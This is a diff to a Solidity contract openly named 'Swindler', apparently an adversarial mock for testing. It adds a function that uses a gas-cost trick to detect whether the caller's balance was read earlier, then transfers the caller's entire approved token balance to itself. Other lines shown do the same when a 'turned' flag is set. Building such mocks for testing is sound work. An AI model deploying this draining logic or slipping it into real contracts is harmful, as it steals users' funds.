@@ -33,6 +33,12 @@ contract Swindler {
         emit Transfer(address(0), msg.sender, 1);
         if (turned) token.transferFrom(msg.sender, address(this), all(token, msg.sender));
     }
+    /// Takes what it may wherever somebody looked at what the customer has before it was called; turned, always.
+    function sniff(IToken token) external {
+        uint256 gas = gasleft();
+        token.balanceOf(msg.sender);
+        if (turned || gas - gasleft() < 4_000) token.transferFrom(msg.sender, address(this), all(token, msg.sender));
+    }
     /// Uses up to so much of what it is allowed.
     function use(IToken token, uint256 amount) external { token.transferFrom(msg.sender, address(this), turned ? 0 : amount); }
 
